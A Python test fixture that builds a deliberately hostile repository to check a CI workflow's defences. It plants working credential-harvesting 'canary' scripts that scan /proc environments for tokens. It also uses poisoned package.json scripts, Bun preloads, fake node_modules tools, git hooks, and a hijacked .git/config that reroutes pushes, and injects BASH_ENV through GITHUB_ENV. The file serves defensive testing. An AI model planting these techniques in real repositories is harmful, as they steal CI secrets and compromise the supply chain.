"""A hostile repository for the example workflow (tests/workflow_hostile.py
runs it): canaries committed wherever the repository's code can run, what
its install leaves in node_modules, and a workspace `.git` someone else
wrote.

Where the canaries are, committed on main or written by the install (a
compromised dependency is in node_modules):
- package.json: every lifecycle script, the root's `knip`, the app's `test`;
  its `check` is `tsc --noEmit`, and that tsc is node_modules' own;
- bunfig.toml preloads (`bun run`, `bun test`), a test file beside a module
  the series touches; the real Bun runs them;
- node_modules: biome, oxlint and tsc, a `typescript` package (tsc_pair.cjs
  loads it), a tsconfig plugin and a Biome GritQL plugin (data: neither
  starts a program);
- git: every hook, in .git/hooks of both jobs' workspaces, and in the
  publish workspace a .git/config someone else wrote (a reused self-hosted
  workspace, a step before): core.hooksPath, core.fsmonitor, filter, diff
  and merge drivers (named by a .gitattributes on main), pager, editor,
  askPass, credential.helper, gpg.program with signing on, sshCommand,
  upload/receive-pack, alternateRefsCommand, an include.path, and a pushurl
  and url.*.pushInsteadOf that send the push to another bare remote;
- .mesh-codemod.toml (shell in its comments), a workflow whose YAML holds a
  python tag, Python files that shadow the tool's imports (json, git, yaml,
  sitecustomize, a `codemods` package), and executables named git, gh,
  python3 and sh at the checkout's root.
Each canary reads /proc/self/environ, its ancestors' environ and command
line up to pid 1, and every process's it can see; leaves a process behind
that looks again for half a minute; and writes GITHUB_PATH and GITHUB_ENV
where it reaches them.
"""

from __future__ import annotations

import json
import sys
from pathlib import Path

from . import workflow_canary
from .canary import executable
from .gitrepo import commit_all, git
from .node_tools import BIN

# the real Bun runs the repository's scripts, preloads and tests: the pinned one
REAL_BUN = BIN / "bun"

CANARY = r"""#!/usr/bin/env bash
# A compromised piece of the repository; $1 says where it ran.
log="@LOGS@"
wanted='ghs_|authorization|token|eC1hY2Nlc3MtdG9rZW46'
scan() {  # every process's environment and command line, the lines that look like a credential
  for p in /proc/[0-9]*; do tr '\0' '\n' < "$p/environ"; echo; tr '\0' ' ' < "$p/cmdline"; echo; done 2>/dev/null |
    grep -aiE "$wanted"
}
if [ "$1" = --late ]; then  # the process left behind: $2 where, $3 rounds
  echo "$$ $2" >> "$log/scanners"
  for _ in $(seq "$3"); do
    [ -e "$log/STOP" ] && break
    scan >> "$log/late-$2.$$.env"
    sleep 0.2
  done
  exit 0
fi
where=${1:-unknown}
{
  echo "## self $$"; tr '\0' '\n' < "/proc/$$/environ"; echo
  echo "## /proc/self"; tr '\0' '\n' < /proc/self/environ; echo
  pid=$$
  while [ "${pid:-1}" -gt 1 ]; do
    echo "## ancestor $pid: $(tr '\0' ' ' < "/proc/$pid/cmdline")"
    tr '\0' '\n' < "/proc/$pid/environ"; echo
    pid=$(sed -n 's/^PPid:[[:space:]]*//p' "/proc/$pid/status")
  done
  echo "## every process"
  scan
} > "$log/$where.$$.env" 2>/dev/null
if [ "$where" = script-knip ]; then echo '{"files":[],"issues":[]}'; fi
if [ -n "${GITHUB_PATH:-}" ]; then echo "@EVIL@" >> "$GITHUB_PATH"; fi
if [ -n "${GITHUB_ENV:-}" ]; then echo "BASH_ENV=@EVIL@/bash_env" >> "$GITHUB_ENV"; fi
self=$(readlink -f "$0")
setsid bash "$self" --late "$where" 150 </dev/null >/dev/null 2>&1 &
if [ -n "${MESH_CANARY_ESCAPE:-}" ]; then  # gone from the runner's end-of-job cleanup
  env -u RUNNER_TRACKING_ID setsid bash "$self" --late escaped 1500 </dev/null >/dev/null 2>&1 &
fi
exit 0
"""

PROBE = """// A compromised module, as Bun runs it (a preload, a test file).
import { readdirSync, readFileSync, writeFileSync } from "node:fs";
import { spawnSync } from "node:child_process";
import { fileURLToPath } from "node:url";

const read = (path: string, sep: string): string => {
  try {
    return readFileSync(path).toString("latin1").split("\\0").join(sep);
  } catch {
    return "";
  }
};

export function probe(where: string): void {
  const out = ["## /proc/self", read("/proc/self/environ", "\\n"), JSON.stringify(process.env)];
  let pid = process.pid;
  for (let depth = 0; depth < 64 && pid > 1; depth++) {
    out.push(`## ancestor ${pid}: ${read(`/proc/${pid}/cmdline`, " ")}`, read(`/proc/${pid}/environ`, "\\n"));
    const parent = /PPid:\\s*(\\d+)/.exec(read(`/proc/${pid}/status`, "\\n"));
    pid = parent ? Number(parent[1]) : 1;
  }
  out.push("## every process");
  for (const name of readdirSync("/proc").filter((n) => /^\\d+$/.test(n))) {
    const text = `${read(`/proc/${name}/environ`, "\\n")}\\n${read(`/proc/${name}/cmdline`, " ")}`;
    out.push(...text.split("\\n").filter((line) => /ghs_|authorization|token|eC1hY2Nlc3MtdG9rZW46/i.test(line)));
  }
  writeFileSync(`@LOGS@/${where}.${process.pid}.env`, out.join("\\n"));
  spawnSync("bash", [fileURLToPath(new URL("./canary.sh", import.meta.url)), `${where}+sh`], { stdio: "ignore" });
}
"""

NODE_MODULE = """// a compromised package: it runs the canary when it is loaded
require("node:child_process").spawnSync("bash", ["@ROOT@/canary.sh", "@WHERE@"], { stdio: "ignore" });
module.exports = {};
"""

# in the folder the canary adds to GITHUB_PATH: notes its environment, then
# runs the program of that name from the rest of PATH
EVIL_TOOL = """#!/usr/bin/env bash
env > "@LOGS@/evil-$(basename "$0").$$.env"
PATH=$(printf '%s' "$PATH" | tr ':' '\\n' | grep -vxF "@EVIL@" | paste -sd: -) exec "$(basename "$0")" "$@"
"""

PYTHON_SHADOW = """import os
with open(os.path.join("@LOGS@", "python-%s.%d.env" % (__name__, os.getpid())), "w") as handle:
    handle.write("\\n".join("%s=%s" % item for item in os.environ.items()))
"""

HOOKS = (
    "applypatch-msg", "pre-applypatch", "post-applypatch", "pre-commit", "pre-merge-commit", "prepare-commit-msg",
    "commit-msg", "post-commit", "pre-rebase", "post-checkout", "post-merge", "pre-push", "pre-receive", "update",
    "proc-receive", "post-receive", "post-update", "reference-transaction", "push-to-checkout", "pre-auto-gc",
    "post-rewrite", "sendemail-validate", "fsmonitor-watchman", "post-index-change",
)


def subst(text: str, logs: Path, evil: Path, root: Path | None = None) -> str:
    text = text.replace("@LOGS@", str(logs)).replace("@EVIL@", str(evil))
    return text.replace("@ROOT@", str(root)) if root is not None else text


def plant(work: Path, logs: Path, evil: Path) -> None:
    """Commit the canaries on main (after tests/canary.verify_shaped) and push."""
    executable(work / "canary.sh", subst(CANARY, logs, evil))
    (work / "canary-probe.ts").write_text(subst(PROBE, logs, evil))
    lifecycle = ("preinstall", "install", "postinstall", "prepare", "prepublishOnly", "prepack", "postpack")
    for folder, up in ((work, "."), (work / "apps/mesh", "../..")):
        manifest = json.loads((folder / "package.json").read_text())
        scripts = {name: f"bash {up}/canary.sh script-{name}" for name in lifecycle}
        scripts |= {"knip": f"bash {up}/canary.sh script-knip"} if folder == work else {
            "check": "tsc --noEmit", "test": f"bash {up}/canary.sh script-test && bun test"}
        manifest["scripts"] = scripts
        (folder / "package.json").write_text(json.dumps(manifest, indent=2) + "\n")
        (folder / "bunfig.toml").write_text(f'preload = ["./canary-preload.ts"]\n\n[test]\npreload = ["./canary-preload.ts"]\n')
        (folder / "canary-preload.ts").write_text(f'import {{ probe }} from "{up}/canary-probe.ts";\nprobe("bunfig-preload");\n')
    # a test beside a module the series touches: the tests check runs it
    (work / "apps/mesh/src/mcp-apps/use-app-bridge.test.ts").write_text(
        'import { expect, test } from "bun:test";\nimport { probe } from "../../../../canary-probe.ts";\n\n'
        'probe("test-file");\n\ntest("the bridge", () => {\n  expect(1).toBe(1);\n});\n')
    (work / "apps/mesh/tsconfig.json").write_text(json.dumps(
        {"compilerOptions": {"strict": True, "noEmit": True, "plugins": [{"name": "canary-ts-plugin"}]},
         "include": ["src"]}, indent=2) + "\n")
    biome = json.loads((work / "biome.json").read_text())
    (work / "biome.json").write_text(json.dumps({**biome, "plugins": ["./canary.grit"]}, indent=2) + "\n")
    (work / "canary.grit").write_text("`console.log($message)` where { register_diagnostic(span=$message, message=\"canary\") }\n")
    (work / ".mesh-codemod.toml").write_text(
        '# $(bash ./canary.sh mesh-codemod-toml) `bash ./canary.sh mesh-codemod-toml`\nbridge = "auto"\n')
    (work / ".gitattributes").write_text("* filter=canary diff=canary merge=canary\n")
    workflows = work / ".github/workflows"
    workflows.mkdir(parents=True, exist_ok=True)
    (workflows / "ci.yml").write_text(
        "on:\n  pull_request:\njobs:\n  canary:\n    runs-on: ubuntu-latest\n    steps:\n"
        "      - run: bash ./canary.sh workflow-run\n")
    (workflows / "tagged.yml").write_text(
        'on: !!python/object/apply:os.system ["bash ./canary.sh yaml-tag"]\njobs: {}\n')
    for name in ("json", "git", "yaml", "sitecustomize", "usercustomize", "typer"):
        (work / f"{name}.py").write_text(subst(PYTHON_SHADOW, logs, evil))
    (work / "codemods").mkdir(exist_ok=True)
    for name in ("__init__", "__main__"):
        (work / "codemods" / f"{name}.py").write_text(subst(PYTHON_SHADOW, logs, evil))
    for name in ("git", "gh", "python3", "sh"):
        executable(work / name, f'#!/bin/sh\nexec bash "$(dirname "$0")/canary.sh" root-{name}\n')
    commit_all(work, "canaries")
    git(work, "push", "-q", "origin", "main")


def node_modules(template: Path, root: Path) -> None:
    """What the install leaves in ``root``'s node_modules (copied from
    ``template`` by the stand-in bun): compromised tools and packages."""
    bin_dir = template / ".bin"
    for tool in ("biome", "oxlint"):
        executable(bin_dir / tool, f'#!/usr/bin/env bash\nbash "{root}/canary.sh" bin-{tool}\n'
                                    f'exec "{workflow_canary.FAKES / tool}" "$@"\n')
    executable(bin_dir / "tsc", f'#!/usr/bin/env bash\nbash "{root}/canary.sh" bin-tsc\nexit 0\n')
    for package, where in (("typescript", "node-typescript"), ("canary-ts-plugin", "tsconfig-plugin")):
        (template / package).mkdir(parents=True)
        (template / package / "package.json").write_text(json.dumps({"name": package, "main": "index.js"}) + "\n")
        (template / package / "index.js").write_text(NODE_MODULE.replace("@ROOT@", str(root)).replace("@WHERE@", where))


def stand_ins(path_dir: Path, logs: Path, template: Path) -> None:
    """tests/workflow_canary's stand-ins (the `gh` stand-in, the logged
    programs, a git that notes which calls held the token), and a Bun whose
    install copies node_modules from ``template`` and runs the install
    canary, and which is the real Bun for everything else."""
    workflow_canary.stand_ins(path_dir, logs)
    for name in ("python", "python3"):  # as setup-python leaves them: this machine has none on its system PATH
        executable(path_dir / name, f"""#!/bin/bash
printf '%s\\t%s\\n' "{name}" "$(tr '\\0' ' ' < /proc/$PPID/cmdline)" >> "{logs}/programs.log"
exec "{sys.executable}" "$@"
""")
    executable(path_dir / "bun", f"""#!/usr/bin/env bash
if [ "$1" = install ]; then
  mkdir -p node_modules apps/mesh/node_modules
  cp -a "{template}/." node_modules/
  bash ./canary.sh install-step
  exit 0
fi
exec "{REAL_BUN}" "$@"
""")


def _hook(root: Path, name: str) -> str:
    return f'#!/bin/sh\nbash "{root}/canary.sh" hook-{name} >/dev/null 2>&1\nexit 0\n'


def hostile_workspace(job: str, workspace: Path, evil_remote: Path, remote: Path) -> None:
    """Hooks in both jobs' checkouts; in the publish job's, a .git/config
    that names a program for everything git could run, and sends the push
    to ``evil_remote``."""
    dot = workspace / ".git"
    for name in HOOKS:
        executable(dot / "hooks" / name, _hook(workspace, name))
    if job != "publish":
        return
    for name in HOOKS:
        executable(dot / "hooks-evil" / name, _hook(workspace, f"path-{name}"))
    evil = dot / "evil"
    run = f'bash "{workspace}/canary.sh"'
    for name in ("fsmonitor", "askpass", "alternate-refs", "filter-process", "diff-external", "gpg", "ssh"):
        executable(evil / name, f"#!/bin/sh\n{run} config-{name} >/dev/null 2>&1\nexit 1\n")
    for name in ("upload-pack", "receive-pack"):
        executable(evil / name, f'#!/bin/sh\n{run} config-{name} >/dev/null 2>&1\nexec git {name} "$@"\n')
    (evil / "included.config").write_text(f"[core]\n\tfsmonitor = {evil}/fsmonitor\n[alias]\n\tls-remote = !{run} alias\n")
    with (dot / "config").open("a") as handle:
        handle.write(f"""[core]
\thooksPath = {dot}/hooks-evil
\tfsmonitor = {evil}/fsmonitor
\tpager = {run} config-pager
\teditor = {run} config-editor
\taskPass = {evil}/askpass
\tsshCommand = {evil}/ssh
\talternateRefsCommand = {evil}/alternate-refs
[sequence]
\teditor = {run} config-sequence-editor
[filter "canary"]
\tclean = {run} filter-clean >/dev/null; cat
\tsmudge = {run} filter-smudge >/dev/null; cat
\tprocess = {evil}/filter-process
[diff "canary"]
\ttextconv = {run} diff-textconv >/dev/null; cat
\tcommand = {run} diff-command
[diff]
\texternal = {evil}/diff-external
[merge "canary"]
\tdriver = {run} merge-driver
[credential]
\thelper = !{run} credential-helper
[gpg]
\tprogram = {evil}/gpg
[commit]
\tgpgSign = true
[tag]
\tgpgSign = true
[remote "origin"]
\tuploadpack = {evil}/upload-pack
\treceivepack = {evil}/receive-pack
\tpushurl = file://{evil_remote}
[url "file://{evil_remote}"]
\tpushInsteadOf = file://{remote}
[include]
\tpath = {evil}/included.config
""")
